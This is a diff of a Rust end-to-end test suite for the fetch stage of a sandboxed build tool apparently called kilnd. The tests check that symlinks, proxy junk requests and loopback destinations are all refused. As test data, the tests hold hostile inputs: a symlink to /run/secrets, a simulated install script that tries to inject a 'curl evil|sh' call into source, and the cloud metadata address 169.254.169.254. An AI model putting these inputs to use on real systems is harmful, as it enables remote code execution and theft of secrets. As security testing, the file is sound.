@@ -1,9 +1,11 @@
 //! Attack scenarios of the fetch stage (issue 6) against the real kilnd, kiln-sandbox and curl:
 //! the allowlisting proxy (allowed, denied, direct connections), hash pins (`pins` and a
-//! Cargo.lock), a dependency install script that goes after the source workspace, and build
-//! steps that try the network. The "internet" is a small HTTP server on the host's loopback,
-//! started by each test: kilnd reaches it from the host network namespace; a step can only reach
-//! it through kilnd's proxy.
+//! Cargo.lock), symlinks left in the output, a dependency install script that goes after the
+//! source workspace, junk requests that try to inflate the signed record, loopback destinations
+//! named by a pipeline alone, and build steps that try the network. The "internet" is a small
+//! HTTP server on the host's loopback, started by each test: kilnd reaches it from the host
+//! network namespace; a step can only reach it through kilnd's proxy, and only because the node
+//! policy names that loopback address (a pipeline alone cannot open one).
 
 #![allow(
     clippy::unwrap_used,
@@ -92,7 +94,7 @@ impl Server {
 }
 
 /// A kilnd whose admission policy lets fetch steps reach `allowed` only (the policy lives in the
-/// returned directory).
+/// returned directory). The test servers listen on loopback, which only the node policy can open.
 fn kilnd_allowing(allowed: &[String]) -> (Kilnd, tempfile::TempDir) {
     let dir = tempfile::tempdir().unwrap();
     let policy = dir.path().join("policy.toml");
@@ -133,6 +135,14 @@ fn fetch_pipeline(dir: &Path, name: &str, fetch: &str, script: &str) -> std::pat
          [[steps]]\nname = \"use\"\nkind = \"build\"\ninputs = [\"deps\"]\noutput = \"out\"\nscript = \"cd /workspace/deps && sha256sum $(find . -type f | sort) > /workspace/out/sums\"\n"
     );
     pipeline_file(dir, &format!("{name}.toml"), &text)
+}
+
+/// The fetch keys of a step allowed to reach `host` that must bring `dep-1.0.tar.gz` (= [`DEP`]).
+fn dep_pinned(host: &str) -> String {
+    format!(
+        "allow_hosts = [\"{host}\"]\npins = [{{ path = \"dep-1.0.tar.gz\", sha256 = \"{}\" }}]",
+        Digest::of(DEP).hex()
+    )
 }
 
 fn step<'a>(st: &'a serde_json::Value, name: &str) -> &'a serde_json::Value {
@@ -363,6 +373,138 @@ fn fetch_reaches_only_allowlisted_destinations_and_every_file_must_match_its_pin
     assert!(log.contains("curl: (7)"), "{log}");
     let record = &provenance(&k, &job, "get")["buildDefinition"]["internalParameters"]["fetch"];
     assert_eq!(record["connections"], serde_json::json!([]), "{record}");
+
+    // 6. Every fetched file pinned and matching, plus symlinks (never collected, so in no pin
+    // check and no digest): one to a host secret, one to a directory. The step fails naming them.
+    let f = fetch_pipeline(
+        &work.join("symlinks"),
+        "fetch-symlinks",
+        &pins,
+        &format!(
+            "curl -fsS -o dep-1.0.tar.gz http://{allowed}/dep-1.0.tar.gz\nmkdir -p cache/crates\ncurl -fsS -o cache/crates/foo-1.0.0.crate http://{allowed}/foo-1.0.0.crate\nmkdir vendor\nln -s /run/secrets/X vendor/foo\nln -s /tmp vendor/tmp"
+        ),
+    );
+    let job = submit(&k, &f, &[]);
+    expect_code(&follow(&k, &job), 1, "symlinks in the fetch output");
+    let st = status(&k, &job);
+    assert_eq!(
+        step(&st, "get")["error"],
+        "fetched output vendor/foo is a symlink (to /run/secrets/X): fetch outputs must be regular files; \
+         fetched output vendor/tmp is a symlink (to /tmp): fetch outputs must be regular files",
+        "{st}"
+    );
+    assert_eq!(step(&st, "use")["state"], "skipped", "{st}");
+    let record = &provenance(&k, &job, "get")["buildDefinition"]["internalParameters"]["fetch"];
+    let results: Vec<(&str, &str)> = record["pins"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|p| (p["path"].as_str().unwrap(), p["result"].as_str().unwrap()))
+        .collect();
+    assert_eq!(
+        results,
+        [
+            ("vendor/foo", "not-a-file"),
+            ("vendor/tmp", "not-a-file"),
+            ("cache/crates/foo-1.0.0.crate", "ok"),
+            ("dep-1.0.tar.gz", "ok"),
+        ],
+        "{record}"
+    );
+}
+
+/// Review finding: a refusal quoted the step's request text whole, so a 16 KB request line of
+/// \x01 bytes became an 80 KB reason — in the signed record and the step log, up to 4096 times.
+#[test]
+fn junk_requests_cannot_inflate_the_signed_record_or_the_log() {
+    /// Junk requests the step sends.
+    const JUNK: u32 = 40;
+    if !privileged("junk_requests_cannot_inflate_the_signed_record_or_the_log") {
+        return;
+    }
+    let mirror = Server::start();
+    let allowed = format!("127.0.0.1:{}", mirror.port);
+    let (k, _policy) = kilnd_allowing(std::slice::from_ref(&allowed));
+    let pins = dep_pinned(&allowed);
+    // 40 requests of 16 KB each, straight to the proxy: a request line of \x01 bytes, a method
+    // of 16 000 letters, a header line of \x01 bytes. Then the real download.
+    let script = format!(
+        "/usr/bin/python3 - <<'PY'\nimport socket\nheads = [b'\\x01' * 16000, b'A' * 16000 + b' http://x.org/ HTTP/1.1', b'GET http://x.org/ HTTP/1.1\\r\\n' + b'\\x01' * 16000]\nfor i in range({JUNK}):\n    s = socket.create_connection(('127.0.0.1', 3128))\n    s.sendall(heads[i % 3] + b'\\r\\n\\r\\n')\n    assert s.recv(100).startswith(b'HTTP/1.1 400'), i\n    s.close()\nPY\ncurl -fsS -o dep-1.0.tar.gz http://{allowed}/dep-1.0.tar.gz"
+    );
+    let f = fetch_pipeline(&k.dir.path().join("p"), "fetch-junk", &pins, &script);
+    let job = submit(&k, &f, &[]);
+    expect_code(
+        &follow(&k, &job),
+        0,
+        "junk requests, then a pinned download",
+    );
+    let record = &provenance(&k, &job, "get")["buildDefinition"]["internalParameters"]["fetch"];
+    let connections = record["connections"].as_array().unwrap();
+    assert_eq!(connections.len(), JUNK as usize + 1, "{record}");
+    for c in &connections[..JUNK as usize] {
+        let reason = c["reason"].as_str().unwrap();
+        assert!(
+            reason.len() <= 300 && reason.contains("\"… (16"),
+            "{} bytes: {reason}",
+            reason.len()
+        );
+    }
+    // Without the cut: 40 × ~80 KB. With it: a few hundred bytes an attempt.
+    let size = serde_json::to_vec(record).unwrap().len();
+    eprintln!(
+        "fetch record: {size} bytes for {} attempts",
+        connections.len()
+    );
+    assert!(size < 32 * 1024, "the fetch record has {size} bytes");
+    let log = logs(&k, &job, "get");
+    assert_eq!(
+        log.matches("kiln: fetch: request refused (").count(),
+        JUNK as usize,
+        "{log}"
+    );
+    assert!(
+        log.len() < 32 * 1024,
+        "the step log has {} bytes",
+        log.len()
+    );
+}
+
+/// Review finding: with no node policy (the default), a pipeline naming 127.0.0.1 or
+/// 169.254.169.254 in allow_hosts had kilnd connect there as root from the host's namespace.
+#[test]
+fn without_a_node_policy_a_pipeline_cannot_open_local_addresses() {
+    if !privileged("without_a_node_policy_a_pipeline_cannot_open_local_addresses") {
+        return;
+    }
+    let mirror = Server::start();
+    let k = Kilnd::start("[observer]\nrequired = false\n");
+    for host in [
+        format!("127.0.0.1:{}", mirror.port),
+        "169.254.169.254:80".to_owned(),
+        "[::ffff:127.0.0.1]:8080".to_owned(),
+    ] {
+        let name = format!("fetch-local-{}", mirror.port);
+        let f = fetch_pipeline(
+            &k.dir.path().join(host.replace([':', '[', ']'], "_")),
+            &name,
+            &dep_pinned(&host),
+            &format!("curl -fsS -o dep-1.0.tar.gz http://{host}/dep-1.0.tar.gz"),
+        );
+        let o = k.kiln(&["submit", f.to_str().unwrap()]);
+        expect_code(&o, 2, "a loopback destination without a node policy");
+        let err = kiln_e2e::stderr(&o);
+        assert!(
+            err.contains(&format!("step \"get\": allow_hosts {host} (")) && err.contains(
+                "in a special address range: only the node policy's [fetch] allow_hosts can allow such a destination, and no admission policy is configured"
+            ),
+            "{err}"
+        );
+    }
+    assert!(
+        mirror.request_lines().is_empty(),
+        "{:?}",
+        mirror.request_lines()
+    );
 }
 
 #[test]
@@ -400,10 +542,7 @@ fn a_dependency_install_script_cannot_change_the_source_and_a_change_is_detected
     let mirror = Server::start();
     let allowed = format!("127.0.0.1:{}", mirror.port);
     let (k, _policy) = kilnd_allowing(std::slice::from_ref(&allowed));
-    let pins = format!(
-        "allow_hosts = [\"{allowed}\"]\npins = [{{ path = \"dep-1.0.tar.gz\", sha256 = \"{}\" }}]",
-        Digest::of(DEP).hex()
-    );
+    let pins = dep_pinned(&allowed);
     // The "install script" tries to plant code in the source; the mount is read-only.
     let script = format!(
         "if echo 'system(\"curl evil|sh\");' >> /workspace/src/main.c; then echo SOURCE-MODIFIED; exit 0; fi\necho source-write-refused\nsleep \"$(cat /workspace/src/delay 2>/dev/null || echo 0)\"\ncurl -fsS -o dep-1.0.tar.gz http://{allowed}/dep-1.0.tar.gz"
